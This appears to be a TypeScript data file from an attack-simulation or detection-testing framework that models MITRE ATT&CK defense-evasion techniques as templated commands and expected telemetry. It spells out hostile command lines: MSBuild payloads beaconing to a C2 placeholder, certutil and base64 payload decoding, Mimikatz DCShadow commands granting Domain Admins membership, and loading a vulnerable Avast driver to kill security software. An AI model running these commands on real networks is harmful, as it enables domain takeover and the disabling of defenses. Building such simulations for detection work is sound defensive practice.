import { NET35, t, v } from "../dsl";
import { clickOnceVariants } from "./defense-evasion-proxy";

/** Defender's current definition update folder (mpengine.dll lives there). */
const DEFINITIONS =
  "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{5A8F3C9E-2B4D-4E1F-9A7C-3D6B8E0F1A2C}";
/** DER start of explicit P-384 curve parameters (version, prime field, p): what a CurveBall cert carries. */
const P384_EXPLICIT =
  "30820157020101303C06072A8648CE3D0101023100FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFFFF0000000000000000FFFFFFFF";

/** Defense evasion, continued: developer utilities, decoding, a rogue DC and exploited security software. */
export const defenseEvasion2 = [
  t("T1127", "Trusted developer utilities", "Developer tools that compile and run inline code.", [
    v("msbuild", [{ cmd: `${NET35}\\MSBuild.exe {{tmp}}\\{{rand}}.csproj`, net: [["{{c2}}", 443]] }]),
  ]),
  t(
    "T1127.001",
    "MSBuild",
    "MSBuild running an inline-task project from a user folder (often spawned by Office or a script).",
    [
      v("msbuild-csproj", [
        { cmd: `"${NET35}\\MSBuild.exe" {{tmp}}\\{{rand}}.csproj`, net: [["{{c2}}", 443]] },
      ]),
      v("msbuild-xml", [{ cmd: `${NET35}\\msbuild.exe C:\\Users\\Public\\{{rand}}.xml` }]),
      v(
        "msbuild-from-wmi",
        [{ cmd: `${NET35}\\MSBuild.exe C:\\Windows\\Temp\\{{rand}}.proj`, parent: "@wmiprvse" }],
        { shell: "none" },
      ),
    ],
  ),
  t("T1127.002", "ClickOnce", "dfsvc.exe installs and runs a ClickOnce application from a URL.", [
    ...clickOnceVariants,
  ]),
  t("T1127.003", "JamPlus", "The JamPlus build tool running a jamfile that executes commands.", [
    v("jam", ["{{tools}}\\jam.exe -f {{tmp}}\\{{rand}}.jam"]),
  ]),
  t(
    "T1140",
    "Deobfuscate/decode",
    "certutil -decode / -urlcache, and PowerShell FromBase64String before execution.",
    [
      v("certutil-decode", [
        {
          cmd: "certutil.exe -decode {{tmp}}\\{{rand}}.b64 {{tmp}}\\{{rand}}.dll",
          files: ["{{tmp}}\\{{rand}}.dll"],
        },
      ]),
      v(
        "frombase64",
        [
          {
            ps: "$d = [System.Convert]::FromBase64String($enc); [IO.File]::WriteAllBytes('C:\\Users\\Public\\{{rand}}.exe', $d)",
            files: ["C:\\Users\\Public\\{{rand}}.exe"],
          },
        ],
        { shell: "ps" },
      ),
      v("expand-cab", [
        { cmd: "expand {{tmp}}\\{{rand}}.cab -F:* {{tmp}}", files: ["{{tmp}}\\{{rand}}.exe"] },
      ]),
    ],
  ),
  t(
    "T1207",
    "Rogue domain controller",
    "DCShadow: Mimikatz registers the workstation as a DC (server/nTDSDSA objects, GC and DRS SPNs), pushes a change by replication, then unregisters.",
    [
      v(
        "dcshadow",
        [
          // The RPC server half runs with a SYSTEM token (!processtoken) and waits for the DC to replicate.
          {
            cmd: '{{tools}}\\mimikatz.exe "!+" "!processtoken" "lsadump::dcshadow /object:{{user}} /attribute:primaryGroupID /value:512" exit',
            as: "srv",
            keep: true,
            loads: ["C:\\Windows\\System32\\samlib.dll"],
          },
          // The push half, as a domain admin: registers the fake DC over LDAP, triggers replication, cleans up.
          {
            cmd: 'cmd.exe /c runas /user:{{domain}}\\{{admin}} "{{tools}}\\mimikatz.exe \\"lsadump::dcshadow /push\\" exit"',
            as: "c",
          },
          {
            cmd: 'runas  /user:{{domain}}\\{{admin}} "{{tools}}\\mimikatz.exe \\"lsadump::dcshadow /push\\" exit"',
            parent: "c",
          },
          {
            cmd: '{{tools}}\\mimikatz.exe "lsadump::dcshadow /push" exit',
            // Secondary Logon (seclogon) creates it under the admin's logon, as in T1134.002 runas.
            parent: "@svchost:netsvcs",
            user: "@admin",
            net: [
              ["@dc", 389],
              ["@dc", 135],
            ],
            then: [
              {
                id: "tgs",
                kind: "kerberos.tgs",
                host: "@dc",
                user: "@admin",
                service: "@dc",
                source: "@workstation",
              },
              {
                id: "ldap",
                kind: "logon",
                host: "@dc",
                session: "dcshadow",
                user: "@admin",
                logonType: 3,
                source: "@workstation",
              },
              {
                id: "server",
                kind: "directory.change",
                host: "@dc",
                session: "dcshadow",
                operation: "create",
                object: "CN={{me}},CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration",
                objectClass: "server",
              },
              {
                id: "ntds",
                kind: "directory.change",
                host: "@dc",
                session: "dcshadow",
                operation: "create",
                object:
                  "CN=NTDS Settings,CN={{me}},CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration",
                objectClass: "nTDSDSA",
              },
              {
                id: "spn",
                kind: "directory.change",
                host: "@dc",
                session: "dcshadow",
                object: "@workstation",
                objectClass: "computer",
                changes: [
                  { attribute: "servicePrincipalName", value: "GC/{{mefqdn}}/{{dns}}" },
                  {
                    attribute: "servicePrincipalName",
                    value: "E3514235-4B06-11D1-AB04-00C04FC2DCD2/{{guid}}/{{dns}}",
                  },
                ],
              },
              {
                id: "unspn",
                kind: "directory.change",
                host: "@dc",
                session: "dcshadow",
                object: "@workstation",
                objectClass: "computer",
                delayMs: 4000,
                changes: [
                  { attribute: "servicePrincipalName", value: "GC/{{mefqdn}}/{{dns}}", op: "delete" },
                  {
                    attribute: "servicePrincipalName",
                    value: "E3514235-4B06-11D1-AB04-00C04FC2DCD2/{{guid}}/{{dns}}",
                    op: "delete",
                  },
                ],
              },
              { id: "ldap-off", kind: "logoff", host: "@dc", session: "dcshadow" },
            ],
          },
        ],
        { elevated: true, user: "@admin", needs: ["domain admin", "SYSTEM on the rogue host"] },
      ),
    ],
  ),
  t(
    "T1211",
    "Defense evasion exploit",
    "Security software exploited to disable or bypass it: BYOVD, a crafted file crashing Defender's engine, a spoofed signature.",
    [
      v(
        "byovd",
        [
          {
            cmd: 'sc create aswArPot binPath= "C:\\Windows\\Temp\\aswArPot.sys" type= kernel',
            then: [
              {
                id: "d",
                kind: "driver.load",
                image: "C:\\Windows\\Temp\\aswArPot.sys",
                signed: true,
                signature: "AVAST Software s.r.o.",
              },
            ],
          },
        ],
        { elevated: true },
      ),
      // A file crafted to hit a memory-corruption bug in mpengine (CVE-2021-1647 style): Defender scans it on
      // write and its service process dies with an access violation in the engine. The file only has to land
      // on disk: a link the user follows in the browser is enough.
      v(
        "mpengine-crash",
        [
          {
            by: "@msedge",
            net: [["{{c2}}", 443]],
            files: ["{{downloads}}\\{{rand}}.zip"],
            then: [
              { id: "scan", kind: "file.read", proc: "@msmpeng", path: "{{downloads}}\\{{rand}}.zip" },
              {
                id: "crash",
                kind: "process.crash",
                proc: "@msmpeng",
                module: `${DEFINITIONS}\\mpengine.dll`,
                exceptionCode: "0xc0000005",
              },
            ],
          },
        ],
        { shell: "none" },
      ),
      // CurveBall (CVE-2020-0601): a payload signed with a spoofed ECC certificate; on a patched host crypt32 in
      // the Explorer process verifying the Mark-of-the-Web publisher reports the attempt through CveEventWrite.
      v(
        "curveball-signed-payload",
        [
          {
            by: "@explorer",
            then: [
              {
                id: "cve",
                kind: "cve.audit",
                cve: "[CVE-2020-0601] cert validation",
                details: `CA: <Microsoft ECC Product Root Certificate Authority 2018> sha1: {{hex40}} para: 06052B81040022 otherPara: ${P384_EXPLICIT}`,
              },
            ],
          },
          { cmd: "{{downloads}}\\{{name}}.exe", parent: "@explorer" },
        ],
        { shell: "none" },
      ),
    ],
  ),
];
